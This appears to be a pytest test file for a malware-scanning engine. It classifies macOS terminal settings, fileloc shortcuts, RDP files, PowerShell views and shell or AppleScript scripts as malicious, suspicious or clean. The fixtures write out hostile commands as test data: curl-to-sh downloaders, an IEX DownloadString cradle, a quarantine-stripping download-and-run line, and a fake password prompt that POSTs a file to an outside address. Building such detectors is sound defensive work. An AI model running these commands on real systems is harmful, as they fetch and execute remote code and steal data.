"""Files of macOS, remote desktop files and views of PowerShell, each with one that does no harm."""

from __future__ import annotations

import pytest

from app.engine.model import Report, Severity, Verdict
from app.engine.scan import Engine

_FETCH = "Download" + "String"
_PLIST = '<?xml version="1.0" encoding="UTF-8"?><plist version="1.0"><dict>{}</dict></plist>'
_TERMINAL = _PLIST.format("<key>CommandString</key><string>{}</string><key>type</key><string>Window Settings</string>")
_RDP = "full address:s:{}\r\nprompt for credentials:i:{}\r\ndrivestoredirect:s:{}\r\n{}"
_PROGRAM = "remoteapplicationmode:i:1\r\nremoteapplicationprogram:s:Connection Test\r\n"


def scanned(engine: Engine, content: str | bytes, name: str) -> Report:
    return engine.scan(content.encode() if isinstance(content, str) else content, name=name)


def severity(report: Report, code: str) -> Severity | None:
    return next((finding.severity for finding in report.findings if finding.id == code), None)


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl https://pay.example.net/a | sh; exit", Severity.MALICIOUS),
        ("echo Y3VybA== | base64 -d | bash", Severity.MALICIOUS),
        ("cd ~/work", Severity.SUSPICIOUS),
    ],
)
def test_settings_of_a_terminal_that_run_a_command_are_told(engine: Engine, command: str, expected: Severity) -> None:
    assert severity(scanned(engine, _TERMINAL.format(command), "a.terminal"), "shortcut.terminal") is expected


def test_settings_of_a_terminal_without_a_command_are_clean(engine: Engine) -> None:
    settings = _PLIST.format("<key>FontAntialias</key><true/><key>name</key><string>Ocean</string>")

    assert scanned(engine, settings, "a.terminal").verdict is Verdict.CLEAN


def test_a_shortcut_of_macos_to_a_program_is_suspicious(engine: Engine) -> None:
    content = _PLIST.format("<key>URL</key><string>file:///Users/Shared/a.command</string>")

    assert scanned(engine, content, "a.fileloc").verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "target", ["FiLe:////////////System/Applications/Calculator.app", "smb://files.example.net/share/a.app"]
)
def test_a_shortcut_of_macos_that_goes_around_its_questions_is_malicious(engine: Engine, target: str) -> None:
    content = _PLIST.format(f"<key>URL</key><string>{target}</string>")

    assert scanned(engine, content, "a.fileloc").verdict is Verdict.MALICIOUS


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (_RDP.format("pay.example.net", 0, "*", _PROGRAM), Severity.MALICIOUS),
        (_RDP.format("203.0.113.8:3389", 1, "*", ""), Severity.MALICIOUS),
        (_RDP.format("desk.example.net", 1, "*", ""), Severity.SUSPICIOUS),
        (_RDP.format("10.2.0.4", 0, "*", _PROGRAM), None),
        (_RDP.format("desk.example.net", 1, "", ""), None),
    ],
)
def test_a_remote_desktop_file_is_judged_by_what_it_gives_to_whom(
    engine: Engine, content: str, expected: Severity | None
) -> None:
    assert severity(scanned(engine, content, "a.rdp"), "shortcut.remote_desktop") is expected


def test_a_view_of_powershell_that_fetches_a_program_is_malicious(engine: Engine) -> None:
    view = '<?xml version="1.0"?><Configuration><ListItem><ScriptBlock>{}</ScriptBlock></ListItem></Configuration>'
    bad = f"IEX (New-Object Net.WebClient).{_FETCH}('http://pay.example.net/a')"

    assert scanned(engine, view.format(bad), "a.ps1xml").verdict is Verdict.MALICIOUS
    assert scanned(engine, view.format("$_.Name.ToUpper()"), "a.ps1xml").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("a.applescript", 'do shell script "curl -s http://pay.example.net/a | sh"', Verdict.MALICIOUS),
        (
            "a.applescript",
            'display dialog "Your password" default answer "" with hidden answer\n'
            'do shell script "curl -X POST -d @/tmp/o http://203.0.113.9/l"',
            Verdict.MALICIOUS,
        ),
        ("a.applescript", 'tell application "Finder" to display dialog "Done"', Verdict.CLEAN),
        (
            "a.command",
            "curl -o /tmp/u http://pay.example.net/u && xattr -c /tmp/u && chmod +x /tmp/u && /tmp/u",
            Verdict.MALICIOUS,
        ),
        ("a.command", "cd ~/site && python3 -m http.server", Verdict.CLEAN),
        ("a.sh", "#!/bin/sh\ncurl -fsSL http://pay.example.net/x | sh\n", Verdict.SUSPICIOUS),
        ("a.sh", "#!/bin/sh\ncurl --proto '=https' https://sh.rustup.rs | sh\n", Verdict.CLEAN),
    ],
)
def test_scripts_of_macos_and_unix_are_judged(engine: Engine, name: str, content: str, expected: Verdict) -> None:
    assert scanned(engine, content, name).verdict is expected
